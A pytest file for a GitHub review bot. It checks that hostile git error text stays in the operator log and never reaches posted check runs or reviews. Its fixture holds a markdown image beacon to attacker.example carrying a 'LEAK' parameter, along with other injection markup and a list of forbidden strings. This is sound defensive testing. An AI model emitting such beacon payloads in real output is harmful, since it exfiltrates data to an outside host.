"""O-03: a failing job posts a short fixed reason; the failure's own text (git's stderr) only reaches the log.

Real git fetches from the fake GitHub over smart HTTP; the fake answers the fetch with a remote error,
which git prints to stderr as ``fatal: remote error: <message>``, just as it echoes values from the
pull request (a ``.gitmodules`` URL, a path) in its own failures.
"""

from __future__ import annotations

import asyncio
import json
import logging

import pytest

from bot.errors import WorkspaceError
from bot.queue.base import ClaimedJob
from tests.app.conftest import AppWorld

HOSTILE = (
    "![p](https://attacker.example/p.png?d=LEAK) <img src=https://attacker.example/x.png> "
    "@octocat #1 <!-- hidden --> [click](https://attacker.example/) <details>x</details>"
)
# what must never appear in anything sent to GitHub
NEEDLES = ("attacker.example", "<img", "@octocat", "![", "<!--", "<details", "remote error", "LEAK")


def _sent(world: AppWorld) -> str:
    writes = [r.json for r in world.fake.requests if r.method in ("POST", "PATCH", "PUT")]
    return json.dumps(writes, ensure_ascii=False)


@pytest.mark.parametrize("attempt", [1, 3])
def test_o03_hostile_git_stderr_never_reaches_github(
    world: AppWorld, caplog: pytest.LogCaptureFixture, attempt: int
) -> None:
    caplog.set_level(logging.WARNING, logger="bot")
    world.fake.git_error_next(HOSTILE, times=20)
    runner = world.runner()
    claimed = ClaimedJob(id="job-7", job=world.job("opened"), attempt=attempt, lease_token="t")
    with pytest.raises(WorkspaceError) as failed:
        asyncio.run(runner(claimed))
    assert "attacker.example" in str(failed.value)  # git really did print the hostile text
    asyncio.run(runner.on_dead(claimed, failed.value))  # as the worker does when the job is dead

    sent = _sent(world)
    for needle in NEEDLES:
        assert needle not in sent, needle
    runs = list(world.fake.check_runs.values())
    assert runs and all(r.status == "completed" and r.conclusion == "neutral" for r in runs)
    assert runs[-1].output["title"] == "Review failed"
    assert "could not be fetched or read" in runs[-1].output["summary"]
    assert world.fake.reviews_for(world.pull) == []
    # the operator still gets the detail, in the log
    details = [getattr(r, "fields", {}).get("error", "") for r in caplog.records]
    assert any("attacker.example" in d for d in details)


def test_o03_any_exception_text_stays_in_the_log(world: AppWorld) -> None:
    """Whatever the error, the PR sees a fixed sentence for its kind (here: an unexpected one)."""
    claimed = ClaimedJob(id="job-8", job=world.job("opened"), attempt=3, lease_token="t")
    asyncio.run(world.runner().on_dead(claimed, RuntimeError(HOSTILE)))
    sent = _sent(world)
    for needle in NEEDLES:
        assert needle not in sent, needle
    (run,) = world.fake.check_runs.values()
    assert "internal error" in run.output["summary"] and "`job-8`" in run.output["summary"]
